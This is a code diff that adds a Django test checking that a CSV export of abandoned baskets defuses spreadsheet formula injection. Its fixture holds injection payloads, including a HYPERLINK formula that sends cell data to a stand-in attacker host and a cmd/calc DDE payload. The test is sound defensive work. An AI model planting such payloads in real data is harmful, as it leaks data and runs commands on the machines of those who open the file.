@@ -237,6 +237,25 @@ def test_exporting_the_selected_abandoned_baskets_as_csv(staff_client, client, o
     assert client.get(row["recovery_link"]).status_code == 302
 
 
+def test_the_export_defuses_cells_a_spreadsheet_would_run_as_formulas(staff_client):
+    # Customers type these fields themselves (initiate, the hosted page): CSV/formula injection.
+    basket = BasketFactory(
+        first_name='=HYPERLINK("http://evil.example/?"&A2,"Click")', last_name="+1+cmd|' /C calc'!A0",
+        company_name="@SUM(1+1)", external_id="-2+3", email="ada@example.com", phone="\t=1+1",
+    )  # fmt: skip
+
+    response = run_action(staff_client, "export_abandoned_csv", [basket])
+
+    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
+    assert row["first_name"] == """'=HYPERLINK("http://evil.example/?"&A2,"Click")"""
+    assert row["last_name"] == "'+1+cmd|' /C calc'!A0"
+    assert row["company_name"] == "'@SUM(1+1)"
+    assert row["external_id"] == "'-2+3"
+    assert row["phone"] == "'\t=1+1"
+    assert row["email"] == "ada@example.com"  # ordinary values are untouched
+    assert row["id"] == basket.public_id
+
+
 def test_the_export_reads_a_fixed_number_of_queries(staff_client, offer, django_assert_max_num_queries):
     def export(count):
         baskets = [BasketFactory() for _ in range(count)]
